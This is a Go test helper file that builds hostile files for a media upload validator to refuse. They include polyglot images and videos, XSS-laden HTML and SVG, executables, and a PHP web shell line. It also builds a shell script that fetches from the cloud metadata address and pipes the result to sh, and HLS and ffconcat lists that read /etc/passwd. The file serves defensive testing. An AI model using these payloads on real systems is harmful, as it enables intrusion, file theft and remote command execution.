package testenv

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode/utf16"
)

// Hostile is a file made to be refused, with what it pretends and what it is.
type Hostile struct {
	Name string // the name the client gives it
	Data []byte
	Why  string
}

// NotMedia is a set of files that are not media at all, most of them named as if they were.
func NotMedia(t testing.TB) []Hostile {
	t.Helper()
	elf, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	utf16HTML := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune("<html><body><script>alert(1)</script></body></html>")) {
		utf16HTML = binary.LittleEndian.AppendUint16(utf16HTML, u)
	}
	return []Hostile{
		{"clip.mp4", []byte("Hello crew, this is a text file named like a video.\n"), "text named .mp4"},
		{"page.mp4", []byte("<!DOCTYPE html><html><body><script>fetch('/v1/messages')</script></body></html>"), "HTML"},
		{"page.jpg", utf16HTML, "UTF-16 HTML whose byte order mark looks like an MPEG audio sync"},
		{"logo.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`), "SVG with script"},
		{"run.mov", []byte("#!/bin/sh\ncurl http://169.254.169.254/ | sh\n"), "shell script"},
		{"tool.mp4", elf[:min(len(elf), 64<<10)], "ELF executable"},
		{"setup.mp4", append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), bytes.Repeat([]byte{0}, 512)...), "Windows PE executable"},
		{"archive.mp4", zipOf(t, map[string]string{"a.txt": "hello"}), "ZIP archive"},
		{"doc.jpg", []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"), "PDF"},
		{"index.php.jpg", []byte("<?php system($_GET['c']); ?>"), "PHP"},
		{"playlist.mp4", HLSPlaylist("file:///etc/passwd"), "HLS playlist"},
		{"list.mp4", ConcatList("/etc/passwd"), "ffconcat list"},
		{"gab2.avi", NeexAVI(HLSPlaylist("file:///etc/passwd")), "AVI with an HLS playlist in a GAB2 subtitle chunk"},
	}
}

// Polyglots are files whose first bytes are real media but that are also something else.
func Polyglots(t testing.TB, jpeg, gif, mp4 []byte) []Hostile {
	t.Helper()
	com := func(s string) []byte {
		// A JPEG comment segment right after SOI: every JPEG decoder skips it; browsers and PDF readers
		// looking at the first kilobyte find the HTML or the PDF header.
		seg := []byte{0xFF, 0xD8, 0xFF, 0xFE}
		seg = binary.BigEndian.AppendUint16(seg, uint16(len(s)+2))
		seg = append(seg, s...)
		return append(seg, jpeg[2:]...)
	}
	freeBox := func(s string) []byte {
		// After the ftyp box, a "free" box that players skip.
		n := int(binary.BigEndian.Uint32(mp4))
		box := binary.BigEndian.AppendUint32(nil, uint32(8+len(s)))
		box = append(append(box, "free"...), s...)
		return append(append(append([]byte{}, mp4[:n]...), box...), mp4[n:]...)
	}
	zipped := zipOf(t, map[string]string{"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "evil.class": "\xca\xfe\xba\xbe"})
	return []Hostile{
		{"photo.jpg", com("<html><body><script>alert(document.domain)</script></body></html>"), "JPEG + HTML"},
		{"photo2.jpg", com("%PDF-1.4\n1 0 obj << >> endobj"), "JPEG + PDF"},
		{"anim.gif", append(append([]byte{}, gif...), zipped...), "GIF + JAR (GIFAR)"},
		{"clip.mp4", append(append([]byte{}, mp4...), zipped...), "MP4 + ZIP"},
		{"clip2.mp4", freeBox("<svg onload=alert(1)>"), "MP4 + SVG in a free box"},
		{"clip3.mp4", freeBox("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"), "MP4 + HLS playlist in a free box"},
	}
}

func zipOf(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range files {
		w, err := zw.Create(name)
		Must(t, err)
		_, err = w.Write([]byte(body))
		Must(t, err)
	}
	Must(t, zw.Close())
	return buf.Bytes()
}

// HLSPlaylist is an HLS media playlist whose segments are the given URLs.
func HLSPlaylist(urls ...string) []byte {
	var b strings.Builder
	b.WriteString("#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n")
	for _, u := range urls {
		fmt.Fprintf(&b, "#EXTINF:10.0,\n%s\n", u)
	}
	b.WriteString("#EXT-X-ENDLIST\n")
	return []byte(b.String())
}

// ConcatList is an ffconcat script that reads the given files.
func ConcatList(paths ...string) []byte {
	var b strings.Builder
	b.WriteString("ffconcat version 1.0\n")
	for _, p := range paths {
		fmt.Fprintf(&b, "file '%s'\n", p)
	}
	return []byte(b.String())
}
